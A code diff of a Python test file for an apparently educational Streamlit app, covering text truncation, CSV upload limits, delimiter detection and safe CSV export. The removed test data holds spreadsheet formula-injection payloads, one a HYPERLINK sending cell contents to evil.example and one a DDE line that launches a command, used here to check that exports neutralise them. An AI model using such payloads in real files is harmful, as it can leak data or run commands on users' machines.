@@ -8,14 +8,12 @@ are empty, header-only, not UTF-8 or have a words-free column) are not repeated 
 """
 
 import csv
-import inspect
 import io
-import tomllib
 
 import pytest
 
-from attnviz.classroom.export import FORMULA_PREFIXES
-from tests.conftest import PROJECT_DIR, require_model
+from attnviz.i18n import t
+from tests.conftest import require_model
 
 SENTIMENT = "app_pages/sentiment.py"
 DATES = "app_pages/dates.py"
@@ -100,9 +98,14 @@ def test_sentiment_odd_text(sentiment_page, name):
 
 
 def test_sentiment_one_megabyte_reads_the_start_and_says_so(sentiment_page):
+    """The box keeps its first 10,000 characters and says so; the model reads 800 words."""
+    from app_pages.shared import MAX_REVIEW_CHARS
+
     at = explain(sentiment_page, TEXTS["one_megabyte"])
-    assert any("first" in c.value for c in at.caption), [c.value for c in at.caption]
-    assert at.session_state["sentiment_timing_ms"]["total"] < 30_000
+    captions = [c.value for c in at.caption]
+    assert any("first" in c for c in captions), captions
+    assert any(t("common.max_chars", cap=MAX_REVIEW_CHARS) in c for c in captions), captions
+    assert len(at.text_area(key="review_text").value) == MAX_REVIEW_CHARS
 
 
 # ----------------------------------------------------------------------- dates
@@ -111,8 +114,8 @@ def test_sentiment_one_megabyte_reads_the_start_and_says_so(sentiment_page):
 @pytest.mark.parametrize("name", sorted(TEXTS))
 def test_dates_odd_text(dates_page, name):
     at = convert(dates_page, TEXTS[name])
-    page = html_text(at)
-    assert "attnviz-output" in page or at.warning or at.info
+    if "attnviz-output" not in html_text(at):  # nothing the model reads: say so
+        assert [w.value for w in at.warning] == [t("common.empty")], name
     assert_dates_still_work(at)
 
 
@@ -160,29 +163,75 @@ def results_frame(at):
     return frames[0] if frames else None
 
 
-def test_formula_cells_are_exported_as_text(sentiment_page, monkeypatch):
+def test_formula_cells_are_exported_as_text_with_the_other_columns(sentiment_page, monkeypatch):
+    """Every OWASP payload, uploaded, comes back in the download as text; id and stars kept."""
+    from tests.test_export import FORMULAS, spreadsheet_would_run
+
     downloads = Downloads(monkeypatch)
-    rows = [
-        ["text"],
-        ['=HYPERLINK("http://evil.example/?leak="&A1,"great film, click")'],
-        ["@SUM(1+1) a boring film"],
-        ["+1 wonderful acting"],
-        ["-2 awful plot"],
-        ["=cmd|' /C calc'!A0 dreadful"],
-        ["\tgood film with a tab"],
-        ["A plain review that stays as it is."],
-    ]
+    payloads = [f"{FORMULAS[name]} great film" for name in sorted(FORMULAS)]
+    rows = [["id", "text", "stars"]]
+    rows += [[str(100 + i), text, str(i % 5 + 1)] for i, text in enumerate(payloads)]
+    rows.append(["999", "A plain review that stays as it is.", "=1+1"])
     content = io.StringIO()
-    csv.writer(content).writerows(rows)
+    csv.writer(content, delimiter=";").writerows(rows)
     at = upload(sentiment_page, content.getvalue().encode())
     assert len(results_frame(at)) == len(rows) - 1
     data = downloads.of(at.download_button(key="batch_download"))
-    exported = list(csv.reader(io.StringIO(data.decode("utf-8"))))
-    texts = [row[0] for row in exported[1:]]
-    assert texts[0].startswith("'=HYPERLINK(")
+    header, *exported = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
+    assert header[:3] == ["id", "text", "stars"]
+    assert {"label", "probability", "top_words"} <= set(header)
+    assert [row[0] for row in exported] == [row[0] for row in rows[1:]]  # ids, in order
+    assert [row[2] for row in exported[:-1]] == [row[2] for row in rows[1:-1]]  # stars
+    for row, payload in zip(exported, payloads):
+        cleaned = payload.replace("\x00", "")
+        assert row[1] == ("'" + cleaned if spreadsheet_would_run(cleaned) else cleaned)
     for cell in (c for row in exported for c in row):
-        assert not cell.startswith(FORMULA_PREFIXES), cell
-    assert texts[-1] == "A plain review that stays as it is."
+        assert not spreadsheet_would_run(cell), repr(cell)
+    assert exported[-1][1] == "A plain review that stays as it is."
+    assert exported[-1][2] == "'=1+1"
+
+
+def test_an_upload_is_parsed_once(sentiment_page, monkeypatch):
+    from attnviz.classroom import export
+
+    calls = []
+    original = export.read_csv_upload
+
+    def counting(data, *args, **kwargs):
+        calls.append(len(data))
+        return original(data, *args, **kwargs)
+
+    monkeypatch.setattr(export, "read_csv_upload", counting)
+    at = upload(sentiment_page, b"id,text\n1,A lovely film.\n2,Dull.\n")
+    for _ in range(3):
+        at.run()
+    at.selectbox(key="batch_column").set_value("text").run()
+    assert len(results_frame(at)) == 2
+    assert len(calls) == 1, calls
+    at = upload(at, b"id,text\n1,Another film entirely.\n", name="other.csv")
+    assert len(calls) == 2 and len(results_frame(at)) == 1
+
+
+def test_a_very_wide_csv_is_refused_at_once(sentiment_page):
+    """400,000 columns (3.9 MB): a clear message from the header, and the page goes on."""
+    from attnviz.classroom.export import MAX_COLUMNS
+
+    columns = 400_000
+    wide = ",".join(f"c{i}" for i in range(columns)) + "\n" + "x," * (columns - 1) + "x\n"
+    at = upload(sentiment_page, wide.encode(), name="wide.csv")
+    assert results_frame(at) is None
+    assert [e.value for e in at.error] == [
+        t("csv.too_many_columns", count=columns, limit=MAX_COLUMNS)
+    ]
+    at = upload(at, b"text\nA lovely film.\n", name="small.csv")
+    assert len(results_frame(at)) == 1
+
+
+def test_a_semicolon_csv_is_read_and_said_so(sentiment_page):
+    at = upload(sentiment_page, b"id;text\n1;Great, really great.\n2;Awful, dull.\n")
+    assert len(results_frame(at)) == 2
+    said = t("csv.delimiter", delimiter=t("csv.delimiter.semicolon"))
+    assert said in [c.value for c in at.caption]
 
 
 def test_fifty_megabyte_csv_is_refused_with_a_message(sentiment_page):
@@ -194,16 +243,20 @@ def test_fifty_megabyte_csv_is_refused_with_a_message(sentiment_page):
     assert len(results_frame(at)) == 2
 
 
-def test_the_server_caps_uploads():
-    """The server refuses big uploads before the page sees them (server.maxUploadSize)."""
-    from attnviz.classroom import export
+def test_the_upload_limit_is_where_the_page_says(sentiment_page):
+    """Just under the limit is read; one byte over it gets the size message."""
+    from attnviz.classroom.export import MAX_UPLOAD_BYTES
 
-    config = tomllib.loads((PROJECT_DIR / ".streamlit" / "config.toml").read_text())
-    limit_mb = config["server"]["maxUploadSize"]
-    assert 1 <= limit_mb <= 10
-    # The page-level check is no looser than the server's (Streamlit counts MB as 2**20).
-    page_limit = inspect.signature(export.read_csv_upload).parameters["max_bytes"].default
-    assert page_limit <= limit_mb * 2**20
+    row = "A fine film," + "p" * 9_987 + "\n"  # 10,000 bytes: short text, long padding
+    under = "text,padding\n" + row * (MAX_UPLOAD_BYTES // len(row) - 1)
+    at = upload(sentiment_page, under.encode(), name="under.csv")
+    assert not at.error, [e.value for e in at.error]
+    assert len(results_frame(at)) == min(len(under.splitlines()) - 1, 500)
+    over = under + "x" * (MAX_UPLOAD_BYTES + 1 - len(under))
+    at = upload(at, over.encode(), name="over.csv")
+    assert [e.value for e in at.error] == [
+        t("csv.too_large", size=(MAX_UPLOAD_BYTES + 1) / 1e6, limit=MAX_UPLOAD_BYTES / 1e6)
+    ]
 
 
 @pytest.mark.parametrize(
